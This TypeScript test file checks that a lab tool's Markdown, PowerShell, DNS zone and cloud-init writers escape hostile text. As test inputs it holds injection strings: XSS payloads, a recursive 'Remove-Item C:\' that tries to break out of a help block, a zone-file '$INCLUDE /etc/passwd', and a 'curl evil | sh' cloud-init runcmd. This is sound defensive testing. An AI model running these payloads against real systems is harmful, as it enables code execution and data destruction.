/**
 * Hostile text through each output format (issue 12): Markdown worksheets and checklists, the PowerShell checklist's
 * help block, zone file comments and cloud-init literal blocks. Validation refuses control characters and Terraform
 * markers in scenario text (test/hardening/inputs.test.ts); these tests feed the writers text that validation lets
 * through (HTML, Markdown and PowerShell syntax) or that only code can build (line breaks in plan text).
 */
import { parse } from "yaml";
import { cloudConfig } from "../../lib/lab/guest/cloud-init";
import { checklistMarkdown, checklistPowerShell } from "../../lib/render/checklist";
import { markdownParagraphs, markdownText } from "../../lib/lab/escape";
import { worksheetMarkdown } from "../../lib/render/worksheets/markdown";
import { zoneFiles } from "../../lib/lab/zones";
import { load } from "../helpers";

const HOSTILE_TITLE = "Lab #> Remove-Item C:\\ -Recurse <# <script>alert(1)</script> [x](javascript:alert(1)) ![i](http://e/x.png) **b** `c` | d ~~s~~ &amp;";
const HOSTILE_DESCRIPTION = "First line <img src=x onerror=alert(1)>\n# Not a heading\n- not a list\n1. not a list\n```\n<iframe src=//evil>\n|a|b|\n|-|-|";

function hostilePlan() {
  const yaml = `sipDomains: [contoso.com]\ntitle: ${JSON.stringify(HOSTILE_TITLE)}\ndescription: ${JSON.stringify(HOSTILE_DESCRIPTION)}\n`;
  const result = load(yaml);
  expect(result.problems.filter((p) => p.severity === "error")).toEqual([]);
  return result.plan!;
}

describe("Markdown (worksheet.md, checklist.md)", () => {
  const plan = hostilePlan();
  const worksheet = worksheetMarkdown(plan);
  const checklist = checklistMarkdown(plan);

  test.each([
    ["worksheet", worksheet],
    ["checklist", checklist],
  ])("%s: no raw HTML, link, image, emphasis or code span from the title", (_name, md) => {
    const heading = md.split("\n")[0];
    expect(heading).not.toMatch(/<script|<\/script/);
    expect(heading).not.toMatch(/(^|[^\\])\[x\]\(/); // no link
    expect(heading).not.toMatch(/(^|[^\\])!\[i\]/); // no image
    expect(heading).not.toMatch(/(^|[^\\])\*\*b/);
    expect(heading).not.toMatch(/(^|[^\\])`c/);
    expect(heading).not.toMatch(/(^|[^\\])\|/);
    expect(heading).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
    expect(heading).toContain("&amp;amp;");
  });

  test("worksheet: the description stays paragraphs of text (no heading, list, fence, table or HTML)", () => {
    const start = worksheet.indexOf("First line");
    const description = worksheet.slice(start, worksheet.indexOf("\n\n", start));
    expect(description.split("\n")).toEqual([
      "First line &lt;img src=x onerror=alert(1)&gt;",
      "\\# Not a heading",
      "\\- not a list",
      "1\\. not a list",
      "\\`\\`\\`",
      "&lt;iframe src=//evil&gt;",
      "\\|a\\|b\\|",
      "\\|-\\|-\\|",
    ]);
  });

  test("escaping renders back to the same text (CommonMark backslash escapes and entities)", () => {
    const unescape = (md: string) =>
      md
        .replace(/\\([!-/:-@[-`{-~])/g, "$1")
        .replace(/&lt;/g, "<")
        .replace(/&gt;/g, ">")
        .replace(/&amp;/g, "&");
    expect(unescape(markdownText(HOSTILE_TITLE))).toBe(HOSTILE_TITLE);
    expect(unescape(markdownParagraphs(HOSTILE_DESCRIPTION))).toBe(HOSTILE_DESCRIPTION);
  });
});

test("PowerShell checklist: the title cannot close the help block", () => {
  const ps1 = checklistPowerShell(hostilePlan());
  const lines = ps1.split(/\r?\n/);
  const open = lines.indexOf("<#");
  const close = lines.indexOf("#>");
  expect(open).toBe(0);
  // Exactly one help block, closed on its own line; nothing inside it closes or reopens a block comment.
  expect(ps1.match(/#>/g)).toHaveLength(1);
  expect(ps1.match(/<#/g)).toHaveLength(1);
  expect(lines.slice(open + 1, close).join("\n")).toContain("Lab # > Remove-Item C:\\ -Recurse < # <script>");
  expect(lines.slice(close + 1).some((l) => l.includes("Remove-Item"))).toBe(false);
});

test("zone files: a comment with line breaks stays one comment line", () => {
  const plan = hostilePlan();
  const record = plan.dnsRecords.find((r) => r.view === "external" && r.type === "A")!;
  const tampered = {
    ...plan,
    dnsRecords: plan.dnsRecords.map((r) => (r === record ? { ...r, purpose: "x\nevil.contoso.com. 60 IN A 6.6.6.6\r$INCLUDE /etc/passwd\u2028; y" } : r)),
  };
  const zone = zoneFiles(tampered).find((z) => z.view === "external" && z.zone === record.zone)!;
  const lines = zone.content.split("\n");
  expect(lines.filter((l) => /evil|INCLUDE/.test(l)).every((l) => l.startsWith("; "))).toBe(true);
  expect(lines.some((l) => /^evil|^\$INCLUDE/.test(l))).toBe(false);
  expect(zone.content).not.toMatch(/[\r\u2028]/);
});

test("cloud-init: file content cannot end its literal block (YAML 1.1 line breaks) and add keys", () => {
  const content = "line one\u2028runcmd:\n  - curl evil | sh\rbootcmd: [reboot]\u0085packages: [nmap]\nlast\n";
  const doc = parse(cloudConfig({ files: [{ path: "/etc/x.conf", content }], runcmd: ["true"] }), { version: "1.1" });
  expect(Object.keys(doc).sort()).toEqual(["package_update", "runcmd", "write_files"]);
  expect(doc.runcmd).toEqual(["true"]);
  expect(doc.write_files).toEqual([
    { path: "/etc/x.conf", permissions: "0644", content: "line one\nruncmd:\n  - curl evil | sh\nbootcmd: [reboot]\npackages: [nmap]\nlast\n" },
  ]);
});
